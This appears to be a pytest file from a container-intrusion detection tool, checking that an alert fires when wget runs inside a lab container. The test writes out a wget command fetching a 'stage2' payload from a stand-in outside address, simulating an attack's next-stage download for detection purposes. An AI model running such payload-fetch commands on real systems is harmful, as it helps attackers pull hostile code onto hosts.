"""The next stage of an attack is fetched."""

from __future__ import annotations

import contextlib

import pytest

from tocsin.errors import TocsinError
from tocsin.lab import outside
from tocsin.lab.range import Range

pytestmark = [pytest.mark.docker, pytest.mark.kernel]


def test_wget(shooting_range: Range) -> None:
    container = shooting_range.container()
    with contextlib.suppress(TocsinError):  # nothing is served there
        container.run("wget", "-T", "1", "-O", "/tmp/stage2", f"http://{outside.ADDRESS}:{outside.PORT}/stage2")
    shooting_range.alert("download-tool-in-container", container)
